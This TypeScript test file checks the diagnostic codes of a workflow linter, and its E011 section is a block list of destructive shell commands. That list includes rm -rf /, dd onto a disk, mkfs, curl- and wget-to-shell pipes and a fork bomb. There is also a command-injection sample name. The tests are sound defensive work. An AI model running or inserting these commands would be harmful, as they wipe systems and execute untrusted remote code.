// Every workflow code: a text that fires it (at the expected line) and a clean twin that must not.
import { describe, expect, it } from 'vitest';
import { codes } from '../../../src/diagnostics/registry.js';
import { diagnose, quietRule, wf } from '../../helpers/workflow-text.js';
import { emptyFs } from '../../helpers/plan-workflow.js';
import { loadWorkflow } from '../../../src/workflow/load/index.js';
import { planWorkflow } from '../../../src/workflow/plan/index.js';

interface Case {
  code: string;
  name: string;
  fires: string;
  line?: number;
  clean: string;
}

const rule = (fields: string) => quietRule('r', fields);

const cases: Case[] = [
  { code: 'E000', name: 'TOML syntax error', fires: '[workflow\nname = "x"\n', line: 1, clean: wf('') },
  { code: 'E001', name: 'empty name', fires: '[workflow]\nname = ""\n', line: 2, clean: '[workflow]\nname = "x"\n' },
  { code: 'E002', name: 'bad rule name', fires: wf(rule('').replace('name = "r"', 'name = "a b"')), clean: wf(rule('')) },
  { code: 'E002', name: 'outputs without a command', fires: wf(rule('output = ["o.txt"]')), line: 10, clean: wf(rule('output = ["o.txt"]\nshell = "touch {output}"')) },
  { code: 'E002', name: 'threads = 0', fires: wf(rule('threads = 0')), line: 10, clean: wf(rule('threads = 1')) },
  { code: 'E002', name: 'duplicate rule name', fires: wf(rule('') + quietRule('r', '')), line: 14, clean: wf(rule('') + quietRule('s', '')) },
  {
    code: 'E003',
    name: 'output wildcard not in inputs',
    fires: wf(rule('input = ["all.txt"]\noutput = ["out/{sample}.txt"]\nshell = "x"'), 'name = "t"\ndescription = "d"\nauthor = "a"\nsample_pattern = "raw/{sample}.fq"'),
    line: 12,
    clean: wf(rule('input = ["raw/{sample}.fq"]\noutput = ["out/{sample}.txt"]\nshell = "x"'), 'name = "t"\ndescription = "d"\nauthor = "a"\nsample_pattern = "raw/{sample}.fq"'),
  },
  { code: 'E004', name: 'bad memory', fires: wf(rule('memory = "lots"')), line: 10, clean: wf(rule('memory = "8GB"')) },
  { code: 'E004', name: 'float memory', fires: wf(rule('[rules.resources]\nmemory = "1.5G"')), clean: wf(rule('[rules.resources]\nmemory = 2048')) },
  {
    code: 'E005',
    name: 'undefined {config.k}',
    fires: wf('[config]\nreference = "r.fa"\n' + rule('output = ["o"]\nshell = "bwa {config.refernce} > {output}"')),
    line: 13,
    clean: wf('[config]\nreference = "r.fa"\n' + rule('output = ["o"]\nshell = "bwa {config.reference} > {output}"')),
  },
  { code: 'E005', name: 'undefined config.k in when', fires: wf(rule('when = "config.run_qc"')), line: 10, clean: wf('[config]\nrun_qc = true\n' + rule('when = "config.run_qc"')) },
  {
    code: 'E005',
    name: 'undefined values_from',
    fires: wf(rule('output = ["o/{chr}"]\nshell = "x"\nscatter = { variable = "chr", values_from = "config.chroms" }')),
    clean: wf('[config]\nchroms = ["1"]\n' + rule('output = ["o/{chr}"]\nshell = "x"\nscatter = { variable = "chr", values_from = "config.chroms" }')),
  },
  { code: 'E007', name: 'unknown depends_on', fires: wf(rule('depends_on = ["nope"]')), line: 10, clean: wf(quietRule('a', '') + rule('depends_on = ["a"]')) },
  { code: 'E009', name: '.. in a path', fires: wf(rule('input = ["../data/x.txt"]')), line: 10, clean: wf(rule('input = ["data/x..txt"]')) },
  { code: 'E011', name: 'rm -rf /', fires: wf(rule('shell = "rm -rf / "')), line: 10, clean: wf(rule('shell = "rm -rf tmp/"')) },
  { code: 'E020', name: 'unknown key', fires: wf(rule('threds = 2')), line: 10, clean: wf(rule('threads = 2')) },
  { code: 'E020', name: 'unknown table', fires: wf('[confg]\na = 1\n'), line: 6, clean: wf('[config]\na = 1\n') },
  { code: 'E022', name: 'unparsable when', fires: wf('[config]\na = 1\n' + rule('when = "config.a >"')), line: 12, clean: wf('[config]\na = 1\n' + rule('when = "config.a > 0"')) },
  {
    code: 'E023',
    name: 'two environments',
    fires: wf('[[rules]]\nname = "r"\n[rules.environment]\nconda = "e.yml"\ndocker = "img"\n'),
    line: 10,
    clean: wf('[[rules]]\nname = "r"\n[rules.environment]\nconda = "e.yml"\n'),
  },
  { code: 'E024', name: 'wrong type', fires: wf(rule('threads = "8"')), line: 10, clean: wf(rule('threads = 8')) },
  { code: 'E025', name: 'missing key', fires: wf('[[sample_groups]]\nsamples = ["a"]\n'), clean: wf('[[sample_groups]]\nname = "g"\nsamples = ["a"]\n') },
  ...['a/b', '-rf', '..', '.', 'x\\ny'].map((name) => ({
    code: 'E030',
    name: `sample name ${JSON.stringify(name)}`,
    fires: wf(`[[sample_groups]]\nname = "g"\nsamples = ["ok", "${name}"]\n` + rule('output = ["o/{sample}"]\nshell = "touch {output}"')),
    line: 8,
    clean: wf(`[[sample_groups]]\nname = "g"\nsamples = ["ok", "x;rm -rf ~ $(id)"]\n` + rule('output = ["o/{sample}"]\nshell = "touch {output}"')),
  })),
  { code: 'E030', name: 'scatter value with a slash', fires: wf(rule('output = ["o/{c}"]\nshell = "x {output}"\nscatter = { variable = "c", values = ["1", "/"] }')), line: 12, clean: wf(rule('output = ["o/{c}"]\nshell = "x {output}"\nscatter = { variable = "c", values = ["1", "2"] }')) },
  ...[
    ['{input[5]}', 12, 'input = ["a"]\noutput = ["o"]\nshell = "cat {input[5]} > {output}"', 'input = ["a"]\noutput = ["o"]\nshell = "cat {input[0]} > {output}"'],
    ['{output.missing}', 11, 'output = { bam = "o.bam" }\nshell = "touch {output.missing}"', 'output = { bam = "o.bam" }\nshell = "touch {output.bam}"'],
    ['{params.b}', 12, 'output = ["o"]\nparams = { a = 1 }\nshell = "x {params.b} > {output}"', 'output = ["o"]\nparams = { a = 1, b = 2 }\nshell = "x {params.b} > {output}"'],
    ['{unknown_thing}', 11, 'output = ["o"]\nshell = "x {unknown_thing} > {output}"', 'output = ["o"]\nshell = "x {threads} > {output}"'],
  ].map(([what, line, fires, clean]) => ({ code: 'E031', name: `${what} cannot be filled`, fires: wf(rule(fires as string)), line: line as number, clean: wf(rule(clean as string)) })),
  {
    code: 'E031',
    name: '{log} without a log',
    fires: wf('[[rules]]\nname = "r"\noutput = ["o"]\nshell = "x > {output} 2> {log}"\n'),
    line: 9,
    clean: wf('[[rules]]\nname = "r"\noutput = ["o"]\nlog = "l.log"\nshell = "x > {output} 2> {log}"\n'),
  },
  {
    code: 'E032',
    name: 'a config value climbs out of the project',
    fires: wf('[config]\nout = "../../elsewhere"\n' + rule('output = ["{config.out}/x.txt"]\nshell = "touch {output}"')),
    clean: wf('[config]\nout = "results"\n' + rule('output = ["{config.out}/x.txt"]\nshell = "touch {output}"')),
  },
  {
    code: 'E034',
    name: 'a pair without the control a rule uses',
    fires: wf('[[pairs]]\npair_id = "P1"\nexperiment = "T1"\ncontrol = "N1"\n[[pairs]]\npair_id = "P2"\nexperiment = "T2"\n' + rule('input = ["b/{experiment}.bam", "b/{control}.bam"]\noutput = ["v/{pair_id}.vcf"]\nshell = "call {input} > {output}"')),
    line: 10,
    clean: wf('[[pairs]]\npair_id = "P1"\nexperiment = "T1"\ncontrol = "N1"\n[[pairs]]\npair_id = "P2"\nexperiment = "T2"\ncontrol = "N2"\n' + rule('input = ["b/{experiment}.bam", "b/{control}.bam"]\noutput = ["v/{pair_id}.vcf"]\nshell = "call {input} > {output}"')),
  },
  {
    code: 'E034',
    name: 'a pair without the experiment_type a rule uses',
    fires: wf('[[pairs]]\npair_id = "P1"\nexperiment = "T1"\nexperiment_type = "wgs"\n[[pairs]]\npair_id = "P2"\nexperiment = "T2"\n' + rule('input = ["b/{experiment}.bam"]\noutput = ["v/{pair_id}.vcf"]\nshell = "call --type {experiment_type} {input} > {output}"')),
    clean: wf('[[pairs]]\npair_id = "P1"\nexperiment = "T1"\nexperiment_type = "wgs"\n[[pairs]]\npair_id = "P2"\nexperiment = "T2"\nexperiment_type = "wes"\n' + rule('input = ["b/{experiment}.bam"]\noutput = ["v/{pair_id}.vcf"]\nshell = "call --type {experiment_type} {input} > {output}"')),
  },
  {
    code: 'E035',
    name: 'values_from without config.',
    fires: wf('[config]\nchroms = ["1", "2"]\n' + rule('output = ["o/{c}"]\nshell = "x {output}"\nscatter = { variable = "c", values_from = "chroms" }')),
    line: 14,
    clean: wf('[config]\nchroms = ["1", "2"]\n' + rule('output = ["o/{c}"]\nshell = "x {output}"\nscatter = { variable = "c", values_from = "config.chroms" }')),
  },
  { code: 'E036', name: 'scatter values = []', fires: wf(rule('output = ["o/{c}"]\nshell = "x {output}"\nscatter = { variable = "c", values = [] }')), line: 12, clean: wf(rule('output = ["o/{c}"]\nshell = "x {output}"\nscatter = { variable = "c", values = ["1"] }')) },
  {
    code: 'E037',
    name: 'required config key without a value',
    fires: wf('[config]\nother = 1\nref = { required = true, help = "genome" }\n' + rule('output = ["o"]\nshell = "bwa {config.ref} > {output}"')),
    line: 8,
    clean: wf('[config]\nother = 1\nref = { required = true, default = "g.fa" }\n' + rule('output = ["o"]\nshell = "bwa {config.ref} > {output}"')),
  },
  { code: 'E038', name: 'bad time_limit', fires: wf(rule('[rules.resources]\ntime_limit = "soon"')), line: 11, clean: wf(rule('[rules.resources]\ntime_limit = "1h30m"')) },
  {
    code: 'E039',
    name: 'sample sheet that cannot be read',
    fires: wf('', 'name = "t"\ndescription = "d"\nauthor = "a"\nsample_groups_file = "missing.tsv"'),
    line: 5,
    clean: wf('', 'name = "t"\ndescription = "d"\nauthor = "a"\nsample_groups_file = "samples.tsv"'),
  },
  {
    code: 'E040',
    name: 'a rule writes another rule\'s protected output',
    fires: wf(quietRule('a', 'protected_output = ["ref/index.bin"]\nshell = "mk {output}"') + rule('output = ["ref/index.bin"]\nshell = "mk {output}"')),
    clean: wf(quietRule('a', 'protected_output = ["ref/index.bin"]\nshell = "mk {output}"') + rule('input = ["ref/index.bin"]\noutput = ["x"]\nshell = "use {input} > {output}"')),
  },
  {
    code: 'E041',
    name: 'a placeholder inside single quotes',
    fires: wf('[config]\nx = "v"\n' + rule(`output = ["o"]\nshell = "echo '{config.x}' > {output}"`)),
    line: 13,
    clean: wf('[config]\nx = "v"\n' + rule(`output = ["o"]\nshell = "echo \\"{config.x}\\" > {output}"`)),
  },
  { code: 'E042', name: 'a shell that does not parse', fires: wf(rule('shell = "echo \\"open"')), line: 10, clean: wf(rule('shell = "echo \\"closed\\""')) },
  {
    code: 'E044',
    name: 'more jobs than one workflow may make',
    fires: wf(
      `[[sample_groups]]\nname = "g"\nsamples = [${Array.from({ length: 1000 }, (_, i) => `"S${i}"`).join(', ')}]\n` +
        rule(`output = ["o/{sample}.{chr}"]\nshell = "touch {output}"\nscatter = { variable = "chr", values = [${Array.from({ length: 600 }, (_, i) => `"c${i}"`).join(', ')}] }`),
    ),
    clean: wf(`[[sample_groups]]\nname = "g"\nsamples = ["S1"]\n` + rule('output = ["o/{sample}.{chr}"]\nshell = "touch {output}"\nscatter = { variable = "chr", values = ["c1"] }')),
  },
  {
    code: 'E050',
    name: 'an option list inside double quotes',
    fires: wf(rule(`output = ["o"]\nparams = { opts = ["-a", "-b"] }\nshell = "tool \\"{params.opts}\\" > {output}"`)),
    line: 12,
    clean: wf(rule(`output = ["o"]\nparams = { opts = ["-a", "-b"] }\nshell = "tool {params.opts} > {output}"`)),
  },
  {
    code: 'E050',
    name: 'an option list as an assignment value',
    fires: wf(rule(`output = ["o"]\nparams = { opts = ["-a", "-b"] }\nshell = "x={params.opts}; tool > {output}"`)),
    clean: wf(rule(`output = ["o"]\nparams = { opts = "-a -b" }\nshell = "x={params.opts}; tool > {output}"`)),
  },
  {
    code: 'E050',
    name: 'an option list in an unquoted here-document',
    fires: wf(rule(`output = ["o"]\nparams = { opts = ["-a", "-b"] }\nshell = """\ncat > {output} <<EOF\nopts: {params.opts}\nEOF\n"""`)),
    clean: wf(rule(`output = ["o"]\nparams = { opts = "-a -b" }\nshell = """\ncat > {output} <<EOF\nopts: {params.opts}\nEOF\n"""`)),
  },
  {
    code: 'E031',
    name: 'a Snakemake {wildcards.sample}',
    fires: wf('[[sample_groups]]\nname = "g"\nsamples = ["A"]\n' + rule('output = ["o/{sample}"]\nshell = "echo {wildcards.sample} > {output}"')),
    line: 14,
    clean: wf('[[sample_groups]]\nname = "g"\nsamples = ["A"]\n' + rule('output = ["o/{sample}"]\nshell = "echo {sample} > {output}"')),
  },
  { code: 'E031', name: '{resources.mem_mb}', fires: wf(rule('output = ["o"]\nmemory = "2G"\nshell = "tool -m {resources.mem_mb} > {output}"')), line: 12, clean: wf(rule('output = ["o"]\nmemory = "2G"\nshell = "tool -m {memory} > {output}"')) },
  { code: 'E031', name: '{memory} in a rule with no memory', fires: wf(rule('output = ["o"]\nshell = "tool -m {memory} > {output}"')), line: 11, clean: wf(rule('output = ["o"]\nmemory = "2G"\nshell = "tool -m {memory} > {output}"')) },
  { code: 'E031', name: 'an unknown name in a params value', fires: wf(rule('output = ["o"]\nparams = { rg = "ID:{smaple}" }\nshell = "tool {params.rg} > {output}"')), line: 11, clean: wf(rule('output = ["o"]\nparams = { rg = "ID:{config.x}" }\nshell = "tool {params.rg} > {output}"').replace('[[rules]]', '[config]\nx = "1"\n\n[[rules]]')) },
  { code: 'E031', name: '{input} in a params value', fires: wf(rule('input = ["i"]\noutput = ["o"]\nparams = { x = "{input}" }\nshell = "tool {params.x} > {output}"')), clean: wf(rule('input = ["i"]\noutput = ["o"]\nparams = { x = "{threads}" }\nshell = "tool {params.x} {input} > {output}"')) },
  { code: 'E043', name: 'a NUL in a config value', fires: wf('[config]\nx = "a\\u0000b"\n' + rule('')), line: 7, clean: wf('[config]\nx = "a\\tb"\n' + rule('')) },
  {
    code: 'E043',
    name: 'a control character in a sheet cell',
    fires: wf('', 'name = "t"\ndescription = "d"\nauthor = "a"\nsample_groups_file = "bad.tsv"'),
    clean: wf('', 'name = "t"\ndescription = "d"\nauthor = "a"\nsample_groups_file = "samples.tsv"'),
  },

];

describe('workflow codes fire on their case and stay silent on the clean twin', () => {
  const sheets = { 'samples.tsv': 'name\tsamples\ng\tS1,S2\n', 'bad.tsv': 'name\tsamples\ng\tS1,S\u001b[2J\n' };
  it.each(cases)('$code: $name', ({ code, fires, clean, line }) => {
    const found = diagnose(fires, 'main.oxoflow', sheets).filter((d) => d.code === code);
    expect(found.length, JSON.stringify(diagnose(fires, 'main.oxoflow', sheets), null, 1)).toBeGreaterThanOrEqual(1);
    if (line !== undefined) expect(found[0]!.line).toBe(line);
    expect(found[0]!.message.length).toBeGreaterThan(10);
    const cleanFound = diagnose(clean, 'main.oxoflow', sheets);
    expect(cleanFound.filter((d) => d.code === code), JSON.stringify(cleanFound)).toEqual([]);
  });

  it('covers every E code in the workflow registry except the ones owned by dry-run and the DAG', () => {
    const covered = new Set(cases.map((c) => c.code));
    // E021 belongs to dry-run, E006 to the DAG (build-dag.test.ts), E033 to reading bytes (load.test.ts).
    const expected = Object.keys(codes).filter((c) => /^E0\d\d$/.test(c) && c !== 'E006' && c !== 'E021' && c !== 'E033');
    expect(expected.filter((c) => !covered.has(c))).toEqual([]);
  });
});

describe('messages and suggestions', () => {
  it('E020 suggests the nearest key and E024 names the value', () => {
    const d = diagnose(wf(rule('threds = 2\nretries = "3"')));
    expect(d.find((x) => x.code === 'E020')?.message).toContain('did you mean "threads"?');
    expect(d.find((x) => x.code === 'E024')?.message).toBe('rules[0] ("r").retries must be an integer, got string "3"');
  });

  it('E005 points at the placeholder inside the shell string and suggests the key', () => {
    const text = wf('[config]\nreference = "r.fa"\n' + rule('shell = "bwa mem {config.refernce} x"'));
    const d = diagnose(text).find((x) => x.code === 'E005')!;
    expect(d.message).toBe('{config.refernce} is not defined in [config] (did you mean reference?)');
    const line = text.split('\n')[d.line! - 1]!;
    expect(line.slice(d.column! - 1)).toMatch(/^\{config\.refernce\}/);
  });

  it('E041 points at the placeholder itself, says why and what to write instead', () => {
    const text = wf('[config]\nx = "v"\n' + rule(`shell = """\necho ok\ncat <<'EOF'\nvalue {config.x}\nEOF\n"""`));
    const d = diagnose(text).find((x) => x.code === 'E041')!;
    expect(d.message).toBe('{config.x} in shell of rule "r" cannot be given to the shell as data: it is inside a quoted here-document, where the shell expands nothing');
    const line = text.split('\n')[d.line! - 1]!;
    expect(line.slice(d.column! - 1)).toBe('{config.x}');
    expect(d.hint).toContain('<<EOF');
  });

  it('E042 points at the line where the shell stops parsing', () => {
    const text = wf(rule(`shell = """\necho ok\nif true; then echo "x\n"""`));
    const d = diagnose(text).find((x) => x.code === 'E042')!;
    expect(d.message).toMatch(/^shell of rule "r" is not valid shell: /);
    expect(text.split('\n')[d.line! - 1]).toBe('if true; then echo "x');
  });

  it('E022 points at the offending column of the expression', () => {
    const text = wf('[config]\na = 1\n' + rule('when = "config.a = 1"'));
    const d = diagnose(text).find((x) => x.code === 'E022')!;
    const line = text.split('\n')[d.line! - 1]!;
    expect(line[d.column! - 1]).toBe('=');
  });

  it('a 2,000-level dotted key is E000 at its line, not a stack overflow', () => {
    const text = wf(`[config]\n${Array.from({ length: 2000 }, () => 'k').join('.')} = 1\n`);
    const d = diagnose(text);
    expect(d.map((x) => [x.code, x.line])).toEqual([['E000', 7]]);
    expect(d[0]!.message).toContain('nests more than 32 levels');
  });

  it('a misspelt required key gives one E020, not an extra E025', () => {
    const d = diagnose('[workflow]\nnmae = "x"\n');
    expect(d.map((x) => x.code)).toEqual(['E020']);
  });
});

describe('E030 and E043 from every source', () => {
  const sheets = { 'g.tsv': 'name\tsamples\ng\tS1,~\n', 'nul.tsv': 'name\tsamples\tnote\ng\tS1\tx\u0000y\n' };
  const codesOf = (text: string) => diagnose(text, 'main.oxoflow', sheets).filter((d) => /^E0[34]/.test(d.code)).map((d) => [d.code, d.file, d.line]);
  it.each(['~', '.', '..', '-rf'])('refuses the sample name %j in a list', (name) => {
    const text = wf(`[[sample_groups]]\nname = "g"\nsamples = [${JSON.stringify(name)}]\n` + rule('output = ["o/{sample}"]\nshell = "touch {output}"'));
    expect(codesOf(text).map((c) => c[0])).toContain('E030');
  });

  it('refuses "~" in a sheet, and a NUL in any cell of a sheet, at the sheet line', () => {
    expect(codesOf(wf('', 'name = "t"\ndescription = "d"\nauthor = "a"\nsample_groups_file = "g.tsv"'))).toEqual([['E030', 'g.tsv', 2]]);
    expect(codesOf(wf('', 'name = "t"\ndescription = "d"\nauthor = "a"\nsample_groups_file = "nul.tsv"'))).toEqual([['E043', 'nul.tsv', 2]]);
  });

  it('refuses unusable values_from values once the config is known', () => {
    const text = wf('[config]\nchroms = ["chr1", ".."]\n' + rule('output = ["o/{chr}"]\nshell = "touch {output}"\nscatter = { variable = "chr", values_from = "config.chroms" }'));
    const workflow = loadWorkflow(text, 'main.oxoflow', {}).workflow!;
    const { diagnostics } = planWorkflow(workflow, {}, emptyFs);
    expect(diagnostics.map((d) => d.code)).toEqual(['E030']);
    expect(diagnostics[0]!.message).toContain('(from config.chroms)');
  });
});

describe('E011 on the values as they will run', () => {
  const withConfig = (value: string, shell: string) => wf(`[config]\nt = ${JSON.stringify(value)}\n` + rule(`shell = ${JSON.stringify(shell)}`));
  it.each([
    ['/', 'rm -rf {config.t}/*'],
    ['', 'rm -rf {config.t}/*'],
    ['/', 'rm -rf {config.t}/'],
    ['/', 'rm -rf "{config.t}"'],
    ['/home/alice', 'rm -rf {config.t}'],
  ])('t = %j in `%s` is blocked', (value, shell) => {
    const found = diagnose(withConfig(value, shell)).filter((d) => d.code === 'E011');
    expect(found.length, JSON.stringify(diagnose(withConfig(value, shell)))).toBe(1);
    expect(found[0]!.message).toContain('once its values are filled in');
  });

  it.each([
    ['results', 'rm -rf {config.t}/*'],
    ['/home/alice/project/tmp', 'rm -rf {config.t}'],
    // A value is never tilde-expanded: this removes a file named "~" in the project.
    ['~', 'rm -rf {config.t}'],
  ])('t = %j in `%s` is allowed', (value, shell) => {
    expect(diagnose(withConfig(value, shell)).filter((d) => d.code === 'E011')).toEqual([]);
  });
});

describe('E011 blocks destructive commands and nothing else', () => {
  const blocked = [
    'rm -rf /',
    'rm -rf ~',
    'rm -fr /*',
    'rm -r -f $HOME',
    'sudo mkfs.ext4 /dev/sdb1',
    'dd if=/dev/zero of=/dev/sda bs=1M',
    'cat x > /dev/sda',
    'chmod -R 777 /',
    'curl -sSL https://example.org/install.sh | bash',
    'wget -qO- http://x/y | sh',
    'bash -c "$(curl -fsSL http://x/y)"',
    ':(){ :|:& };:',
  ];
  const harmless = [
    'rm -rf tmp/',
    'rm -rf {output}.tmp',
    'rm -f /tmp/x.txt',
    'dd if=/dev/zero of=test.img bs=1M count=1',
    'curl -o ref.fa.gz https://example.org/ref.fa.gz && gunzip ref.fa.gz',
    'chmod 755 scripts/run.sh',
    'samtools view {input} | bash_tool_wrapper',
    'echo "${HOME}/x"',
  ];
  it.each(blocked)('blocks %s', (cmd) => {
    expect(diagnose(wf(rule(`shell = ${JSON.stringify(cmd)}`))).some((d) => d.code === 'E011')).toBe(true);
  });
  it.each(harmless)('allows %s', (cmd) => {
    expect(diagnose(wf(rule(`shell = ${JSON.stringify(cmd)}`))).filter((d) => d.code === 'E011')).toEqual([]);
  });
});
